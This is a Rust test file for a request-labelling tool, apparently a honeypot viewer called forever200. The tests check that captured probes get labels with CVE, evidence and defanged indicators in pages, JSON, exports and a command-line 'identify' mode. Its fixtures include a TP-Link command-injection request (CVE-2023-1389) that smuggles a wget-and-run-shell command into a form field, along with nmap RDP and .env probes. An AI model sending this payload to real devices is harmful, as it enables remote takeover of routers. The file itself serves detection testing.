//! What a request is, from signatures to the page, to JSON and to the command line.

use std::io::Write;
use std::process::{Output, Stdio};

use anyhow::{Context, ensure};
use forever200_testkit::process::{command, programs};
use forever200_testkit::stack::Stack;
use forever200_testkit::until;
use serde_json::{Value, json};

const EXPLOIT: &[u8] = b"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+http://192.0.2.66/x.sh+-O-|sh) HTTP/1.1\r\nHost: x\r\n\r\n";
const OWN: &str = r#"
[[signature]]
id = "own"
title = "What we look for"
category = "monitoring"
explanation = "A request that our own machines send every minute, to see whether this one is up."
match.path.equals = "/own"
examples = ["GET /own HTTP/1.1"]
"#;

fn file(text: &[u8]) -> anyhow::Result<tempfile::NamedTempFile> {
    let mut file = tempfile::NamedTempFile::new()?;
    file.write_all(text)?;
    Ok(file)
}

/// Runs `forever200-viewer identify` with these bytes on its standard input.
fn identify(arguments: &[&str], stdin: &[u8]) -> anyhow::Result<Output> {
    let mut child = command(programs()?.join("forever200-viewer"))
        .arg("identify")
        .args(arguments)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()?;
    child.stdin.take().context("no stdin")?.write_all(stdin)?;
    Ok(child.wait_with_output()?)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_label_is_on_the_page_in_json_and_in_the_exports() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    stack.send(EXPLOIT).await?;
    stack
        .send(b"\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=nmap\r\n\x01\x00\x08\x00\x03\x00\x00\x00")
        .await?;
    let list = stack.until_recorded(2).await?;
    let (exploit, rdp) = (&list["requests"][1], &list["requests"][0]);
    let label = &exploit["labels"][0];
    assert_eq!(
        (&label["category"], &label["cve"]),
        (&json!("exploit"), &json!(["CVE-2023-1389"]))
    );
    assert_eq!(
        label["references"][0],
        "https://www.cve.org/CVERecord?id=CVE-2023-1389"
    );
    let range = |at: usize| {
        label["evidence"][0][at]
            .as_u64()
            .map(|at| at as usize)
            .context("no evidence")
    };
    assert!(
        EXPLOIT[range(0)?..range(1)?].starts_with(b"/cgi-bin/luci/;stok=/locale"),
        "{label}"
    );
    assert_eq!(
        exploit["indicators"],
        json!([{ "address": "hxxp://192[.]0[.]2[.]66/x.sh" }])
    );
    assert_eq!(
        (&rdp["protocol"], &rdp["summary"]),
        (&json!("rdp"), &json!("Cookie: mstshash=nmap"))
    );
    assert_eq!(rdp["labels"][0]["category"], "wrong-protocol");

    let title = label["title"].as_str().context("no title")?;
    let explanation = label["explanation"].as_str().context("no explanation")?;
    for path in [
        "/home",
        "/home/text",
        "/home/export.html",
        "/home/export.har",
        "/home/export.ndjson",
    ] {
        ensure!(
            stack.get(path).await?.text().contains(title),
            "{path} does not say {title}"
        );
    }
    let page = stack
        .get("/home/requests/1")
        .await?
        .text()
        .replace("&#x2f;", "/");
    ensure!(page.contains(title) && page.contains(explanation), "{page}");
    ensure!(
        page.contains("<mark>/cgi-bin/luci/;stok=/locale</mark>"),
        "no evidence in {page}"
    );
    ensure!(
        page.contains("hxxp://192[.]0[.]2[.]66/x.sh") && !page.contains("href=\"http://192"),
        "{page}"
    );
    let known = stack.get("/home/labels").await?.text();
    ensure!(
        known.contains(title) && known.contains("/home?label=tp-link") && known.contains("×1"),
        "no count"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn labels_filter_the_list() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    stack.send(EXPLOIT).await?;
    stack.send(b"GET /.env HTTP/1.1\r\n\r\n").await?;
    stack.until_recorded(2).await?;
    for (query, seqs) in [
        ("category=exploit", json!([1])),
        ("category=secrets", json!([2])),
        ("category=crawler", json!([])),
        ("cve=cve-2023-1389", json!([1])),
        ("country=NL", json!([])),
        ("as=AS64496", json!([])),
        ("-category=exploit", json!([2])),
        ("-category=exploit&-category=secrets", json!([])),
        ("category=unrecognised", json!([])),
        ("source=me&category=secrets", json!([2])),
        ("-source=me", json!([])),
    ] {
        let list: Value = serde_json::from_slice(
            &stack
                .get(&format!("/home/api/requests?{query}"))
                .await?
                .body,
        )?;
        let found: Vec<_> = list["requests"]
            .as_array()
            .context("no list")?
            .iter()
            .map(|it| it["seq"].clone())
            .collect();
        assert_eq!(json!(found), seqs, "{query}");
    }
    for query in ["category=evil", "as=here"] {
        assert_eq!(
            stack.get(&format!("/home?{query}")).await?.status,
            400,
            "{query}"
        );
    }
    let stats: Value = serde_json::from_slice(&stack.get("/home/api/stats").await?.body)?;
    assert_eq!(stats["categories"], json!({ "exploit": 1, "secrets": 1 }));
    Ok(())
}

/// Returns the addresses of links to requests in a page.
fn links(page: &str) -> Vec<&str> {
    let links = page.split("href=\"").skip(1);
    let links = links.filter_map(|rest| rest.split_once('"').map(|(address, _)| address));
    links
        .filter(|address| address.contains("/requests/"))
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_filter_stays_until_it_is_cleared() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    for path in ["/.env", "/a", "/.env.bak", "/b", "/.env"] {
        let request = format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n");
        stack.send(request.as_bytes()).await?;
    }
    stack.until_recorded(5).await?;
    let list = stack.get("/home?category=secrets").await?.text();
    let to = |seq| format!("/home/requests/{seq}?category=secrets");
    ensure!(links(&list) == [to(5), to(3), to(1)], "{list}");
    ensure!(
        list.contains("href=\"/home?category=secrets&amp;method=GET\""),
        "{list}"
    );
    ensure!(list.contains("href=\"/home?-category=secrets\""), "{list}");
    // The links of the numbers at the top add to the present filter.
    let list = stack.get("/home?method=GET&category=secrets").await?.text();
    let link = "href=\"/home?method=GET&amp;category=secrets\">secrets</a>";
    ensure!(list.contains(link), "{list}");
    ensure!(
        list.contains("href=\"/home?method=GET&amp;category=secrets&amp;view=wall\""),
        "{list}"
    );
    let request = stack.get(&to(3)).await?.text();
    ensure!(links(&request)[..2] == [to(5), to(1)], "{request}");
    ensure!(
        request.contains("href=\"/home?category=secrets#r3\""),
        "{request}"
    );
    ensure!(
        links(&stack.get("/home/requests/3").await?.text())[..2]
            == ["/home/requests/4", "/home/requests/2"]
    );
    Ok(())
}

/// Returns what the form of a page sends when nothing is changed in it: the names and values that
/// are not empty.
fn sent_by_form(page: &str) -> Option<Vec<(String, String)>> {
    let form = page.split_once("<form action=")?.1;
    let form = form.split_once("</form>")?.0;
    let mut sent = Vec::new();
    let mut select = "";
    for tag in form.split('<').skip(1) {
        let (tag, text) = tag.split_once('>')?;
        let name = value_of(tag, "name").unwrap_or_default();
        let value = value_of(tag, "value").unwrap_or_default();
        if tag.starts_with("select") {
            select = name;
        } else if tag.starts_with("option") && tag.ends_with(" selected") {
            sent.push((select, text));
        } else if tag.contains("checkbox") && tag.ends_with(" checked") {
            sent.push((name, "on"));
        } else if tag.starts_with("input") && !tag.contains("checkbox") {
            sent.push((name, value));
        }
    }
    let mut filled = Vec::new();
    for (name, value) in sent {
        if !value.is_empty() && name != "sort" {
            filled.push((name.to_owned(), unescaped(value)));
        }
    }
    filled.sort();
    Some(filled)
}

fn value_of<'a>(tag: &'a str, name: &str) -> Option<&'a str> {
    let (_, rest) = tag.split_once(&format!(" {name}=\""))?;
    Some(rest.split_once('"')?.0)
}

fn unescaped(text: &str) -> String {
    let mut text = text.to_owned();
    for (escaped, char) in [
        ("&lt;", "<"),
        ("&gt;", ">"),
        ("&quot;", "\""),
        ("&#x2f;", "/"),
        ("&amp;", "&"),
    ] {
        text = text.replace(escaped, char);
    }
    text
}

#[tokio::test(flavor = "multi_thread")]
async fn a_form_sends_all_that_was_asked_for() -> anyhow::Result<()> {
    let folder = tempfile::tempdir()?;
    let path = folder.path().to_str().context("an odd path")?;
    let stack = Stack::start_with(&[("FOREVER200_HISTORY", path)]).await?;
    for (query, sent) in [
        ("category=exploit&category=crawler", ""),
        ("q=a&q=b%22%3Cc%3E%26&q=d&-q=e&-q=f", ""),
        ("-label=x&label=y&label=z&-label=w", ""),
        ("cve=CVE-2021-44228&cve=CVE-2021-45046", ""),
        ("country=NL&country=DE&-country=FR", ""),
        // In upper and lower case unlike in the form.
        (
            "category=Exploit&-category=CRAWLER",
            "category=exploit&-category=CRAWLER",
        ),
    ] {
        for at in ["/home", "/home/history", "/home/collection"] {
            form_sends(&stack, at, query, sent).await?;
        }
    }
    for (query, sent) in [
        ("source=192.0.2.0/24&source=192.0.2.7&-source=me", ""),
        ("kind=a&kind=b&-kind=c&sensor=d&sensor=e", ""),
        ("protocol=http&-protocol=TLS&port=1-9&port=5", ""),
        ("protocol=HTTP&tls=TRUE", "protocol=http&tls=on"),
        ("incomplete=on&body=on&-body=on", ""),
        ("incomplete=off&body=True", "body=on"),
        // Too long to be repeated in links, so there are no chips.
        (&format!("q={}&q=b&-q=c", "x%22".repeat(1500)), ""),
    ] {
        for at in ["/home", "/home/history"] {
            form_sends(&stack, at, query, sent).await?;
        }
    }
    form_sends(&stack, "/home/history", "since=7d&until=1h&q=a&q=b", "").await
}

/// Checks that the form on a page with this query sends `sent`; with an empty `sent`, that it sends
/// the query.
async fn form_sends(stack: &Stack, at: &str, query: &str, sent: &str) -> anyhow::Result<()> {
    let page = stack.get(&format!("{at}?{query}")).await?;
    ensure!(page.status == 200, "{at}?{query}: {}", page.text());
    let sent = if sent.is_empty() { query } else { sent };
    let mut expected: Vec<_> = url::form_urlencoded::parse(sent.as_bytes())
        .into_owned()
        .collect();
    expected.sort();
    let found = sent_by_form(&page.text()).context("no form")?;
    assert_eq!(found, expected, "{at}?{query}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn the_list_of_labels_is_short_and_can_be_searched() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    for request in [EXPLOIT, b"GET /.env HTTP/1.1\r\n\r\n", EXPLOIT] {
        stack.send(request).await?;
    }
    stack.until_recorded(3).await?;
    let page = stack.get("/home/labels").await?.text();
    let (rare, usual) = (
        page.find(".env file with passwords"),
        page.find("id=\"tp-link"),
    );
    ensure!(
        rare.is_some() && rare < usual,
        "the rarest is not first: {page}"
    );
    ensure!(page.len() < 100_000, "{} bytes", page.len());
    for (query, expected) in [
        ("q=cve-2021-44228", "CVE-2021-44228"),
        ("q=LOG4J&category=exploit", "CVE-2021-44228"),
        ("label=dotenv-file", "1 label <"),
        ("category=exploit", "/home/labels?label=tp-link"),
        ("q=no+such+thing", "0 labels with “no such thing”"),
    ] {
        let page = stack.get(&format!("/home/labels?{query}")).await?.text();
        ensure!(page.contains(expected), "{query}: {page}");
    }
    Ok(())
}

/// All labels of a request are counted, not only the first.
#[tokio::test(flavor = "multi_thread")]
async fn the_list_of_labels_says_what_was_seen_and_sorts_by_it() -> anyhow::Result<()> {
    let folder = tempfile::tempdir()?;
    let path = folder.path().to_str().context("an odd path")?;
    let stack = Stack::start_with(&[("FOREVER200_HISTORY", path)]).await?;
    for request in [&b"GET /.env HTTP/1.1\r\n\r\n"[..], EXPLOIT, EXPLOIT] {
        stack.send(request).await?;
    }
    stack.until_recorded(3).await?;
    let page = until("both are counted", || async {
        let page = stack.get("/home/labels").await.ok()?.text();
        page.contains("2 in the history").then_some(page)
    });
    let page = page.await?;
    ensure!(page.contains("/home/collection/dotenv-file"), "{page}");
    let by_title = stack.get("/home/labels?category=exploit").await?.text();
    let by_seen = stack
        .get("/home/labels?category=exploit&sort=seen")
        .await?
        .text();
    ensure!(by_seen.contains(" of them seen"), "{by_seen}");
    let at = |page: &str| page.find("/home/labels?label=tp-link").context("no label");
    let others = |page: &str| -> anyhow::Result<usize> {
        Ok(page[..at(page)?].matches("/home/labels?label=").count())
    };
    ensure!(others(&by_title)? > 100, "{}", others(&by_title)?);
    ensure!(others(&by_seen)? < 10, "{}", others(&by_seen)?);
    ensure!(stack.get("/home/labels?sort=new").await?.status == 400);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn signatures_of_ones_own_are_beside_the_others() -> anyhow::Result<()> {
    let own = file(OWN.as_bytes())?;
    let path = own.path().to_str().context("an odd name")?;
    let stack = Stack::start_with(&[("FOREVER200_SIGNATURES", path)]).await?;
    stack.send(b"GET /own HTTP/1.1\r\n\r\n").await?;
    stack.send(EXPLOIT).await?;
    let list = stack.until_recorded(2).await?;
    let ids = |at: usize| {
        list["requests"][at]["labels"]
            .as_array()
            .cloned()
            .unwrap_or_default()
    };
    assert!(ids(1).iter().any(|label| label["id"] == "own"), "{list}");
    assert_eq!(list["requests"][0]["labels"][0]["category"], "exploit");
    Ok(())
}

#[test]
fn a_broken_file_of_signatures_is_refused_with_line_and_reason() -> anyhow::Result<()> {
    let broken = file(OWN.replace("monitoring", "evil").as_bytes())?;
    let viewer = programs()?.join("forever200-viewer");
    let output = command(viewer)
        .env("FOREVER200_SIGNATURES", broken.path())
        .output()?;
    let stderr = String::from_utf8(output.stderr)?;
    assert_eq!(
        (output.status.code(), stderr.lines().count()),
        (Some(2), 1),
        "{stderr}"
    );
    assert!(
        stderr.contains("line 5: unknown variant `evil`"),
        "{stderr}"
    );
    Ok(())
}

#[test]
fn identify_prints_what_a_request_is() -> anyhow::Result<()> {
    let text = String::from_utf8(identify(&[], EXPLOIT)?.stdout)?;
    assert!(text.starts_with("-: http: GET /cgi-bin/luci/"), "{text}");
    for part in [
        "  exploit: TP-Link Archer",
        ", CVE-2023-1389 (",
        "    bytes 4 to ",
        "hxxp://192[.]0[.]2[.]66/x.sh",
    ] {
        assert!(text.contains(part), "no {part} in {text}");
    }
    let (exploit, noise) = (file(EXPLOIT)?, file(b"\xff\x1b[31m")?);
    let paths = [exploit.path(), noise.path()].map(|path| path.to_str().unwrap_or_default());
    let output = identify(&[&["--json"][..], &paths].concat(), b"")?;
    let lines: Vec<Value> = output
        .stdout
        .split(|&byte| byte == b'\n')
        .flat_map(serde_json::from_slice)
        .collect();
    assert_eq!((lines.len(), &lines[0]["file"]), (2, &json!(paths[0])));
    assert_eq!(
        (&lines[0]["labels"][0]["cve"][0], &lines[1]["protocol"]),
        (&json!("CVE-2023-1389"), &json!("unknown"))
    );
    // The output has nothing that a terminal obeys.
    let shown = identify(&paths[1..], b"")?.stdout;
    assert!(
        shown.iter().all(|byte| matches!(byte, b'\n' | b' '..=b'~')),
        "{}",
        shown.escape_ascii()
    );
    assert!(!identify(&["/nonexistent"], b"")?.status.success());
    Ok(())
}

#[test]
fn identify_reads_a_corpus() -> anyhow::Result<()> {
    use base64::Engine;
    let b64 = |raw: &[u8]| base64::prelude::BASE64_STANDARD.encode(raw);
    let lines = [
        json!({ "id": "a", "b64": b64(EXPLOIT) }),
        json!({ "id": "b", "b64": b64(b"SSH-2.0-Go\r\n"), "more": 1 }),
    ];
    let corpus = file(lines.map(|line| format!("{line}\n")).concat().as_bytes())?;
    let path = corpus.path().to_str().context("an odd name")?;
    let output = identify(&["--corpus", path], b"")?.stdout;
    let found: Vec<Value> = output
        .split(|&byte| byte == b'\n')
        .flat_map(serde_json::from_slice)
        .collect();
    assert_eq!(
        (&found[0]["id"], &found[0]["protocol"]),
        (&json!("a"), &json!("http"))
    );
    assert_eq!(found[0]["labels"][0]["cve"], json!(["CVE-2023-1389"]));
    assert_eq!(
        (&found[1]["id"], &found[1]["protocol"]),
        (&json!("b"), &json!("ssh"))
    );
    Ok(())
}
